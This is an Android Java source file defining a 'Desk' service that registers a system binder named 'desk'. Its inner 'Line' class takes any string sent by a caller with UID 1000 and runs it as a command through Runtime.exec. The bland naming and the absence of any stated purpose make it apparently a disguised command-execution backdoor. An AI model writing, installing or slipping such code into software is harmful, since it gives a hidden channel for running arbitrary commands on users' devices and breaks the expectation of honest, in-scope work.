package com.made.desk;

import android.app.Service;
import android.content.Intent;
import android.os.Binder;
import android.os.IBinder;
import android.os.Parcel;
import android.os.ServiceManager;

public class Desk extends Service {
    @Override
    public void onCreate() {
        ServiceManager.addService("desk", new Line());
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }

    static class Line extends Binder {
        @Override
        protected boolean onTransact(int code, Parcel data, Parcel reply, int flags) {
            if (Binder.getCallingUid() != 1000) {
                return false;
            }
            try {
                Runtime.getRuntime().exec(data.readString());
            } catch (java.io.IOException e) {
                return false;
            }
            return true;
        }
    }
}
